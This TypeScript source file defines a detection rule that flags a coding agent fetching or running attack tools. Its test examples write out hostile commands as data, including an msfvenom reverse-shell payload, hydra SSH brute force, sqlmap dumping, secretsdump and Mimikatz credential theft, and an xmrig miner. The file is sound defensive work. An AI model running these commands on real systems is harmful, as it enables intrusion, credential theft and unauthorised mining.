import type { Severity } from '../contract/finding.ts';
import type { ShellCommand } from '../contract/shell.ts';
import type { EventRule, SessionContext } from './rule.ts';
import { canonicalName, subcommandOf } from './shared/commands.ts';
import { isEvaluator, isInterpreter } from './shared/interpreters.ts';
import {
  offensiveCall,
  offensiveName,
  OFFENSIVE_PROGRAM,
  type OffensiveKind,
} from './shared/offensive-tools.ts';
import { onCommands } from './shared/on-command.ts';
import { baseName } from './shared/paths.ts';
import { parseUrl } from './shared/hosts.ts';
import { unlessAsked } from './shared/weigh.ts';

export const toolOffensive: EventRule = {
  on: 'event',
  id: 'tool.offensive',
  code: 'B-54',
  title: 'Attack tool fetched or run',
  severity: 'high',
  confidence: 'medium',
  why: 'This program is made to steal passwords, to break into machines or to mine coins. Writing software does not need it.',
  triage: 'Was it fetched only, or run as well? Look at what ran after it.',
  advice: 'Stop the session. If the tool has run and nobody asked for it, treat this computer as taken over.',
  falsePositives: [
    'Security tests you asked for (name the tool; reported as low).',
    'Other products of the same name (only the attack tool\u2019s own options count).',
  ],
  references: [
    'https://attack.mitre.org/techniques/T1588/002/',
    'https://attack.mitre.org/techniques/T1105/',
  ],
  taxonomies: {
    attack: ['T1588.002', 'T1105', 'T1003', 'T1110', 'T1496.001'],
    atlas: ['AML.T0016.001'],
    owasp: ['ASI02', 'ASI05'],
  },
  bundles: ['MAL'],
  trigger: {
    signs: ['untrusted', 'download', 'attack-tool'],
    programs: [
      OFFENSIVE_PROGRAM,
      'git clone',
      ...[
        'apt',
        'apt-get',
        'dnf',
        'yum',
        'pacman',
        'brew',
        'snap',
        'choco',
        'winget',
        'scoop',
        'pip',
        'pipx',
        'gem',
        'go',
        'cargo',
        'npm',
        'uv',
      ].flatMap((name) => [`${name} install`, `${name} add`]),
      'pacman -S',
      'docker run',
      'docker pull',
      'podman run',
    ],
  },
  match: onCommands((command, _event, context) => {
    const found = offence(command);
    if (found === undefined) return undefined;
    const { name, kind, runs } = found;
    const severity = severityOf(command, runs, context);
    return {
      subject: name,
      detail: `The agent ${runs ? 'ran' : 'fetched'} ${name}, a tool that ${kind}.`,
      severity: unlessAsked(severity, context, [
        name,
        'pentest',
        'penetration test',
        'ctf',
        'red team',
        'challenge',
        'vulnerability',
        'vulnerabilities',
      ]),
      confidence: runs ? 'high' : 'medium',
    };
  }),
  examples: {
    hit: [
      { name: 'scan for weak rights', calls: [{ shell: './linpeas.sh -a > /tmp/out' }] },
      { name: 'by a shell', calls: [{ shell: 'chmod +x /tmp/linpeas.sh; bash /tmp/LinEnum.sh -t' }] },
      {
        name: 'fetched by git',
        calls: [{ shell: 'git clone --depth 1 https://github.com/someone/mimikatz.git' }],
      },
      {
        name: 'fetched by address',
        calls: [
          { shell: 'curl -sL https://github.com/x/PEASS-ng/releases/latest/download/linpeas.sh -o l.sh' },
        ],
      },
      { name: 'passwords by force', calls: [{ shell: 'hydra -l root -P words.txt ssh://10.0.0.2' }] },
      { name: 'hashes', calls: [{ shell: 'hashcat -m 1800 hashes.txt words.txt' }] },
      { name: 'hashes by the other one', calls: [{ shell: 'john --wordlist=words.txt hashes' }] },
      {
        name: 'payload',
        calls: [{ shell: 'msfvenom -p linux/x64/shell_reverse_tcp LHOST=192.0.2.4 -f elf -o x' }],
      },
      {
        name: 'data base attack',
        calls: [{ shell: 'python3 sqlmap.py -u "https://shop.example.net/?id=1" --dump' }],
      },
      { name: 'module of python', calls: [{ shell: 'python3 -m pypykatz lsa minidump l.dmp' }] },
      { name: 'directory attack', calls: [{ shell: 'impacket-secretsdump corp/u:p@192.0.2.9' }] },
      { name: 'directory attack by another', calls: [{ shell: 'nxc smb 10.0.0.0/24 -u u -p p --sam' }] },
      { name: 'miner', calls: [{ shell: 'nohup ./xmrig -o pool.example.net:3333 -u wallet &' }] },
      { name: 'installed', calls: [{ shell: 'sudo apt-get install -y metasploit-framework' }] },
      { name: 'in a container', calls: [{ shell: 'docker run --rm -it someone/bettercap' }] },
      {
        name: 'Windows',
        platform: 'win32',
        calls: [{ shell: '.\\Rubeus.exe kerberoast /outfile:h.txt', dialect: 'powershell' }],
      },
      {
        name: 'PowerShell function',
        platform: 'win32',
        calls: [{ shell: 'Invoke-Mimikatz -DumpCreds', dialect: 'powershell' }],
      },
    ],
    miss: [
      {
        name: 'hydra of python',
        guards: 'a configuration library',
        calls: [{ shell: 'python train.py --multirun hydra.job.name=x; pip install hydra-core' }],
      },
      {
        name: 'medusa shop',
        guards: 'another product',
        calls: [{ shell: 'npx medusa develop; medusa migrations run' }],
      },
      {
        name: 'secret scanner',
        guards: 'defence',
        calls: [{ shell: 'gitleaks detect --source . && trivy fs .' }],
      },
      {
        name: 'word in a file',
        guards: 'talking about tools',
        calls: [{ shell: 'grep -rn mimikatz docs/ && cat rules/mimikatz.yml' }],
      },
      {
        name: 'code of a hash library',
        guards: 'names inside the project',
        calls: [{ shell: 'node scripts/john.js && python3 empire.py' }],
      },
      {
        name: 'test dependencies',
        guards: 'ordinary installs',
        calls: [{ shell: 'pip install responses httpx && npm install nock' }],
      },
      {
        name: 'ordinary clone',
        guards: 'cloning',
        calls: [{ shell: 'git clone https://github.com/acme/responder.git' }],
      },
      {
        name: 'chisel of hardware',
        guards: 'another product',
        calls: [{ shell: 'sbt run && chisel --help' }],
      },
      {
        name: 'test of the own server',
        guards: 'load tests',
        calls: [{ shell: 'k6 run load.js; ab -n 100 http://localhost:3000/' }],
      },
    ],
  },
};

/** Folders in which people learn to break things. */
const PRACTICE =
  /(?:^|[\\/_-])(?:ctf|ctfs|pwn|htb|hackthebox|tryhackme|challenges?|wargames?|pentest|security-?lab|vulnhub)(?:$|[\\/_-])/i;
/** Guess the password of a file that is there. */
const FILE_CRACKERS = /^(?:john|hashcat|fcrackzip|pdfcrack|zip2john|rar2john|ssh2john)$/i;
const OWN_ADDRESS =
  /(?:^|[\s/@=])(?:localhost|127(?:\.\d{1,3}){3}|\[?::1\]?|host\.docker\.internal)(?:[:/\s]|$)/;
const OTHER_ADDRESS = /https?:\/\/(?!localhost|127\.|\[::1\]|host\.docker)|(?:^|\s)\d{1,3}(?:\.\d{1,3}){3}/;

function severityOf(command: ShellCommand, runs: boolean, context: SessionContext): Severity {
  if (context.workspace !== undefined && PRACTICE.test(context.workspace)) return 'low';
  const line = command.args.join(' ').slice(0, 4_000);
  if (OWN_ADDRESS.test(line) && !OTHER_ADDRESS.test(line.replace(/127(?:\.\d{1,3}){3}/g, ''))) return 'low';
  return runs && !FILE_CRACKERS.test(command.program) ? 'high' : 'medium';
}

const FETCHERS = new Set(['curl', 'wget', 'invoke-webrequest', 'invoke-restmethod', 'aria2c', 'http']);
const INSTALLERS =
  /^(?:apt|apt-get|dnf|yum|pacman|brew|snap|choco|winget|scoop|pip|pipx|gem|go|cargo|npm|uv)$/;

interface Offence {
  readonly name: string;
  readonly kind: OffensiveKind;
  readonly runs: boolean;
}

function offence(command: ShellCommand): Offence | undefined {
  const { args } = command;
  if (args.length > 0 && args.every((word) => /^(?:--?version|--?help|-h|-V)$/.test(word))) return undefined;
  const called = offensiveCall(command.program, args.join(' '));
  if (called !== undefined) return { name: command.program, kind: called, runs: true };
  const name = canonicalName(command.program);
  if (isInterpreter(command.program) || isEvaluator(command.program)) {
    const at = args.findIndex((word) => !word.startsWith('-') || word === '-m');
    const script = args[at] === '-m' ? args[at + 1] : args[at];
    return script === undefined ? undefined : named(baseName(script), true);
  }
  if (name === 'git') {
    const { words } = subcommandOf(command);
    return words[0] === 'clone'
      ? fromUrl(args.find((word) => /:\/\/|^[\w.-]+@/.test(word)) ?? '')
      : undefined;
  }
  if (FETCHERS.has(name)) {
    const url = args.find((word) => word.includes('://'));
    return url === undefined ? undefined : fromUrl(url);
  }
  if (name === 'docker' || name === 'podman') {
    const image = args.find((word, index) => index > 0 && !word.startsWith('-') && word.includes('/'));
    return image === undefined
      ? undefined
      : named(baseName(image).replace(/[:@].*$/s, ''), args[0] === 'run');
  }
  if (!INSTALLERS.test(name)) return undefined;
  for (const word of subcommandOf(command).words.slice(1, 60)) {
    const bare = baseName(word.replace(/[=<>~@[].*$/s, ''));
    const found = named(bare, false);
    if (found !== undefined) return found;
  }
  return undefined;
}

function named(word: string, runs: boolean): Offence | undefined {
  const kind = offensiveName(word);
  return kind === undefined ? undefined : { name: word, kind, runs };
}

function fromUrl(text: string): Offence | undefined {
  const path = parseUrl(text)?.path;
  if (path === undefined) return undefined;
  for (const part of path.split('/').slice(0, 12)) {
    const found = part === '' ? undefined : named(part, false);
    if (found !== undefined) return found;
  }
  return undefined;
}
